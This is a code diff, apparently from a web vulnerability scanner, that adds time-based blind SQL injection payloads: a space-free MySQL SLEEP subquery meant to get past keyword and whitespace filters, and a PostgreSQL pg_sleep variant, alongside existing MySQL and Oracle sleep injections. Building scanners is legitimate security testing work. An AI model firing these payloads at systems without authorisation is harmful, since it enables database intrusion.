@@ -15,6 +15,9 @@ const asleep = (seconds: number) => `0=${sleeper(seconds)}`;
 const mysql = (seconds: number) => `1=${sleeper(seconds)}`;
 const postgres = (seconds: number) => `1=(SELECT COUNT(*) FROM pg_sleep(${seconds}))`;
 
+/** The same without a blank, for an OR that finds nothing beside: 0. */
+const compact = (seconds: number) => `(SELECT(0)FROM(SELECT(SLEEP(${seconds})))x)`;
+
 /** True on its own account after so many seconds; asked once for a query. */
 const oracle = (seconds: number) => `1=(SELECT DBMS_PIPE.RECEIVE_MESSAGE('scanfold',${seconds}) FROM dual)`;
 
@@ -28,6 +31,9 @@ const naps: readonly Nap[] = [
   { database: 'MySQL or MariaDB', value: (own, seconds) => `${own}" OR ${asleep(seconds)} OR "1"="2` },
   { database: 'MySQL or MariaDB', value: (own, seconds) => `${own}') OR ${asleep(seconds)} OR ('1'='2` },
   { database: 'MySQL or MariaDB', value: (own, seconds) => `${own}") OR ${asleep(seconds)} OR ("1"="2` },
+  // Where blanks and words are taken out.
+  { database: 'MySQL or MariaDB', value: (own, seconds) => `${own}'||${compact(seconds)}||'0` },
+  { database: 'PostgreSQL', value: (own, seconds) => `${own}') AND ${postgres(seconds)} AND ('1'='1` },
   { database: 'Oracle', value: (own, seconds) => `${own} AND ${oracle(seconds)}` },
   { database: 'Oracle', value: (own, seconds) => `${own}' AND ${oracle(seconds)} AND '1'='1` },
   // A second statement that only waits. What follows the value is never cut off: with it nothing is run at all.
